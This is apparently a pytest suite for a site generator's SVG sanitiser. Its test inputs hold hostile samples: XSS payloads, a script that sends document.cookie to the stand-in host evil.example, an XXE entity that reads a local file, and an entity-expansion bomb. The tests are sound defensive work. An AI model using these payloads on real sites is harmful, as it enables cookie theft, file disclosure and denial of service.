"""SVG drawings from articles are published sanitised (sitegen/media/svg.py): no scripts, event
handlers, javascript:/data: links, <foreignObject>, outside references, DOCTYPE or entities; parsed
without reading a DTD, resolving an entity or touching the network. A malformed SVG is a content
error naming the article, the field and the file, and the published site is left as it was."""
from __future__ import annotations

import http.server
import re
import threading

import pytest
from lxml import etree

from imagetest import media_files
from sitegen.media.probe import ImageProblem
from sitegen.media.svg import SVG_NS, sanitize_svg
from sitetest import snapshot

ARTICLE = "content/tin-tuc/bai-anh/index.md"
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20">'
SAFE = (HEAD + '<title>Sơ đồ tổ chức</title><defs><linearGradient id="g"><stop offset="0" stop-color="#b01218"/>'
        '</linearGradient></defs><rect id="r" width="40" height="20" fill="url(#g)" style="stroke:#000"/>'
        '<use href="#r" x="2"/><a href="https://example.gov.vn/so-do/"><text x="1" y="15">Bộ Nội vụ</text></a></svg>')


def clean(body: str, head: str = HEAD) -> etree._Element:
    data = sanitize_svg((head + body + "</svg>").encode()).data
    return etree.fromstring(data)


def everything(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


# --- the sanitiser --------------------------------------------------------------------------------

def test_a_plain_drawing_keeps_its_content():
    out = sanitize_svg(SAFE.encode())
    root = etree.fromstring(out.data)
    assert root.tag == f"{{{SVG_NS}}}svg" and (out.width, out.height) == (40, 20)
    assert out.removed == 0
    ns = {"s": SVG_NS}
    assert root.xpath("//s:title/text()", namespaces=ns) == ["Sơ đồ tổ chức"]
    assert root.xpath("//s:rect/@fill", namespaces=ns) == ["url(#g)"]
    assert root.xpath("//s:rect/@style", namespaces=ns) == ["stroke:#000"]
    assert root.xpath("//s:use/@href", namespaces=ns) == ["#r"]
    assert root.xpath("//s:a/@href", namespaces=ns) == ["https://example.gov.vn/so-do/"]
    assert root.xpath("//s:stop/@stop-color", namespaces=ns) == ["#b01218"]


def test_scripts_foreign_objects_and_handlers_are_removed():
    root = clean('<script>alert(1)</script><script xlink:href="https://evil.example/x.js"/>'
                 '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">'
                 '<iframe src="https://evil.example/"/></div></foreignObject>'
                 '<handler type="application/ecmascript">alert(2)</handler>'
                 '<g onclick="alert(3)" ONMOUSEOVER="alert(4)"><rect width="4" height="4" onload="alert(5)"/></g>'
                 '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(6)</html:script>',
                 head=HEAD[:-1] + ' onload="alert(0)">')
    text = everything(root)
    for bad in ("script", "alert", "foreignObject", "iframe", "handler", "onclick", "onmouseover", "onload"):
        assert bad.lower() not in text.lower(), text
    assert root.xpath("//s:g/s:rect", namespaces={"s": SVG_NS}), "the drawing itself stays"


@pytest.mark.parametrize("href", ["javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:alert(1)",
                                  "java&#10;script:alert(1)", "vbscript:msgbox(1)",
                                  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                                  "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="])
def test_script_and_data_links_are_removed(href):
    root = clean(f'<a href="{href}"><text>x</text></a><a xlink:href="{href}"><text>y</text></a>')
    for a in root.iter(f"{{{SVG_NS}}}a"):
        assert a.get("href") is None and a.get("{http://www.w3.org/1999/xlink}href") is None
    assert "script" not in everything(root).lower()


def test_outside_references_are_removed_embedded_pictures_kept():
    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    root = clean(f'<image href="https://tracker.example/p.gif" width="1" height="1"/>'
                 f'<image xlink:href="anh.jpg" width="1" height="1"/>'
                 f'<image href="{png}" width="1" height="1"/>'
                 f'<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" width="1" height="1"/>'
                 f'<use href="other.svg#icon"/><use xlink:href="#r"/>'
                 f'<filter id="f"><feImage href="https://tracker.example/f.png"/></filter>'
                 f'<rect id="r" width="4" height="4" fill="url(https://tracker.example/fill)"'
                 f' style="fill: url(\'http://tracker.example/s\'); stroke: url(#g)" xml:base="https://evil.example/"/>'
                 f'<style>@import url("https://tracker.example/a.css"); @import "b.css";'
                 f' .c {{ fill: url(#g); background: url(//tracker.example/b.png) }}</style>')
    text = everything(root)
    assert "tracker.example" not in text and "anh.jpg" not in text and "other.svg" not in text
    assert "svg+xml" not in text and "@import" not in text and "xml:base" not in text
    assert png in text, "an embedded raster picture is part of the drawing"
    assert 'xlink:href="#r"' in text and "stroke: url(#g)" in text and "fill: url(#g)" in text


def test_unreadable_styles_are_dropped():
    root = clean('<style>.a { background: u\\72l(https://tracker.example/) }</style>'
                 '<rect width="1" height="1" style="behavior: url(x.htc)"/>'
                 '<rect width="1" height="1" style="-moz-binding: url(x.xml#y)"/>'
                 '<rect width="1" height="1" style="width: expression(alert(1))"/>')
    text = everything(root)
    assert "tracker" not in text and "behavior" not in text and "binding" not in text and "expression" not in text


def test_animations_cannot_set_links_or_handlers():
    root = clean('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/>'
                 '<animate attributeName="xlink:href" values="javascript:alert(1)"/><text>x</text></a>'
                 '<set attributeName="onclick" to="alert(1)"/>'
                 '<animate attributeName="fill" from="red" to="blue" dur="1s"/>')
    text = everything(root)
    assert "javascript" not in text and "onclick" not in text and "alert" not in text
    assert root.xpath("//s:animate/@attributeName", namespaces={"s": SVG_NS}) == ["fill"]


def test_doctype_entities_comments_and_stylesheet_instructions_are_removed(tmp_path):
    secret = tmp_path / "mat-khau.txt"
    secret.write_text("SECRET-ON-THE-BUILD-MACHINE", "utf-8")
    data = (f'<?xml version="1.0"?>\n<?xml-stylesheet href="https://tracker.example/x.css"?>\n'
            f'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file://{secret}"><!ENTITY ten "Bộ Nội vụ">]>\n'
            f'{HEAD}<!-- a comment --><text>&xxe;</text><text x="1">a&ten;b</text></svg>').encode()
    out = sanitize_svg(data).data
    text = out.decode()
    assert "SECRET" not in text and "DOCTYPE" not in text and "ENTITY" not in text and "&" not in text
    assert "xml-stylesheet" not in text and "comment" not in text and "tracker" not in text
    assert "ab" in text, "the text around an entity reference stays"
    etree.fromstring(out)


def test_entity_expansion_bomb_is_not_expanded():
    lol = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    data = f'<!DOCTYPE svg [<!ENTITY l0 "lol">{lol}]>{HEAD}<text>&l9;</text></svg>'.encode()
    try:
        out = sanitize_svg(data).data
    except ImageProblem:
        return      # refused by the parser's amplification limit: as good
    assert len(out) < 2000 and b"lollol" not in out


def test_no_network_access_for_a_dtd_or_entity():
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'<!ENTITY x "REMOTE">')

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        base = f"http://127.0.0.1:{server.server_address[1]}"
        data = (f'<!DOCTYPE svg SYSTEM "{base}/svg.dtd" [<!ENTITY % p SYSTEM "{base}/p.dtd"> %p;'
                f'<!ENTITY e SYSTEM "{base}/e.txt">]>{HEAD}<text>&e;</text></svg>').encode()
        try:
            out = sanitize_svg(data).data
            assert b"REMOTE" not in out
        except ImageProblem:
            pass
    finally:
        server.shutdown()
        server.server_close()
    assert hits == [], f"the sanitiser fetched {hits}"


@pytest.mark.parametrize("data, words", [
    (b"", "empty file"),
    (HEAD.encode() + b'<rect width="4"', "not a well-formed SVG drawing"),
    (HEAD.encode() + b"<g></svg>", "not a well-formed SVG drawing"),
    (b"<svg><rect/></svg>", "no SVG namespace"),
    (b"<html><body>trang web</body></html>", "outer element is <html>"),
    (b"\x89PNG\r\n\x1a\n\x00\x00", "not a well-formed SVG drawing"),
])
def test_bad_svgs_are_refused_in_words(data, words):
    with pytest.raises(ImageProblem) as info:
        sanitize_svg(data)
    assert words in info.value.message and info.value.hint


def test_line_of_a_syntax_error():
    with pytest.raises(ImageProblem) as info:
        sanitize_svg((HEAD + '\n<rect width="4"/>\n<g>\n</svg>').encode())
    assert "(line 4" in info.value.message


@pytest.mark.parametrize("head, size", [
    ('<svg xmlns="http://www.w3.org/2000/svg" width="120px" height="80">', (120, 80)),
    ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 150">', (300, 150)),
    ('<svg xmlns="http://www.w3.org/2000/svg" width="100%" viewBox="0,0,300,150">', (300, 150)),
    ('<svg xmlns="http://www.w3.org/2000/svg" width="60" viewBox="0 0 300 150">', (60, 30)),
    ('<svg xmlns="http://www.w3.org/2000/svg" width="10cm" height="5cm">', (None, None)),
])
def test_size_for_the_img_element(head, size):
    out = sanitize_svg((head + "<rect/></svg>").encode())
    assert (out.width, out.height) == size


# --- in a build -------------------------------------------------------------------------------------

HOSTILE = (HEAD[:-1] + ' onload="alert(document.domain)">'
           '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'
           '<a href="javascript:alert(1)"><rect width="40" height="20" fill="#b01218"/></a>'
           '<image href="https://tracker.example/p.gif" width="1" height="1"/></svg>')


def published_svgs(out) -> dict[str, bytes]:
    """The image pipeline's SVGs (the theme's own emblem is not an article's)."""
    return {"media/" + name: p.read_bytes() for name, p in media_files(out).items() if name.endswith(".svg")}


def test_svgs_of_an_article_are_published_sanitised(photo_site, builder):
    folder = photo_site.bundle("bai-anh")
    (folder / "so-do.svg").write_text(HOSTILE, "utf-8")
    (folder / "bieu-do.svg").write_text(HOSTILE.replace("#b01218", "#162e5c"), "utf-8")
    (folder / "tai-lieu.svg").write_text(HOSTILE.replace("#b01218", "#f6c848"), "utf-8")
    photo_site.article(photos=[{"src": "so-do.svg", "caption": "Sơ đồ tổ chức"}],
                       body="![Biểu đồ](bieu-do.svg)\n\nXem [sơ đồ gốc](tai-lieu.svg).\n")
    built = builder(photo_site.root)
    svgs = published_svgs(built.out)
    assert len(svgs) == 3 and all(re.fullmatch(r"media/[a-z-]+\.[0-9a-f]{12}\.svg", k) for k in svgs), svgs
    for name, data in svgs.items():
        low = data.lower()
        for bad in (b"script", b"onload", b"alert", b"tracker.example", b"evil.example"):
            assert bad not in low, f"{name} still holds {bad!r}"
        assert b"<rect" in data
    doc = built.html(photo_site.url())
    imgs = {img.get("alt"): img for img in doc.xpath("//main//img")}
    for alt in ("Sơ đồ tổ chức", "Biểu đồ"):
        src = imgs[alt].get("src")
        assert src.lstrip("/") in svgs and (imgs[alt].get("width"), imgs[alt].get("height")) == ("40", "20")
    [link] = doc.xpath("//main//a[text()='sơ đồ gốc']")
    assert link.get("href").lstrip("/") in svgs, "a link to a drawing gets the sanitised copy too"
    assert not list((built.out / "tin-tuc").rglob("*.svg")), "the originals are not published"

    again = builder(photo_site.root)
    assert again.result.images.processed == 0 and again.result.images.written == 0
    assert published_svgs(again.out) == svgs

    photo_site.article(photos=[{"src": "so-do.svg", "caption": "Sơ đồ tổ chức"}], body="Không còn hình.\n")
    third = builder(photo_site.root)
    assert len(published_svgs(third.out)) == 1 and third.result.images.pruned == 2
    assert len([p for p in photo_site.cache.iterdir() if p.suffix == ".svg"]) == 1


def test_a_static_svg_used_in_an_article_is_sanitised(photo_site, builder):
    static = photo_site.root / "static" / "images"
    static.mkdir(parents=True)
    (static / "so-do.svg").write_text(HOSTILE, "utf-8")
    photo_site.article(body="![Sơ đồ](/images/so-do.svg)\n")
    built = builder(photo_site.root)
    [img] = built.html(photo_site.url()).xpath("//main//img")
    assert img.get("src").startswith("/media/so-do.")
    assert b"script" not in built.bytes(img.get("src"))


@pytest.mark.parametrize("inline", [False, True])
def test_a_malformed_svg_is_a_content_error(photo_site, cli, tmp_path, inline):
    out = tmp_path / "public"
    folder = photo_site.bundle("bai-anh")
    (folder / "tot.svg").write_text(SAFE, "utf-8")
    photo_site.article(photos=[{"src": "tot.svg", "caption": "Sơ đồ tốt"}])
    assert cli("build", "--site", str(photo_site.root), "--out", str(out)).code == 0
    before = snapshot(out)
    (folder / "hong.svg").write_text(HEAD + '\n<rect width="4"\n</svg>', "utf-8")
    if inline:
        article = photo_site.article(photos=[{"src": "tot.svg", "caption": "Sơ đồ tốt"}],
                                     body="Đoạn một.\n\n![Sơ đồ hỏng](hong.svg)\n")
    else:
        article = photo_site.article(photos=[{"src": "tot.svg", "caption": "Sơ đồ tốt"},
                                             {"src": "hong.svg", "caption": "Sơ đồ hỏng"}])
    result = cli("build", "--site", str(photo_site.root), "--out", str(out))
    assert result.code == 1 and "Traceback" not in result.err, result.err
    lines = article.read_text("utf-8").splitlines()
    if inline:
        no = next(i for i, line in enumerate(lines, 1) if "hong.svg" in line)
        msg = result.find(ARTICLE, "body", no)
        assert msg.text.startswith("image 'hong.svg' is not a well-formed SVG drawing"), msg.text
    else:
        no = next(i for i, line in enumerate(lines, 1) if "src: hong.svg" in line)
        msg = result.find(ARTICLE, "photos[1].src", no)
        assert msg.text.startswith("photo 'hong.svg' is not a well-formed SVG drawing"), msg.text
    assert "(line 3" in msg.text
    assert snapshot(out) == before, "a failed build changed the published site"
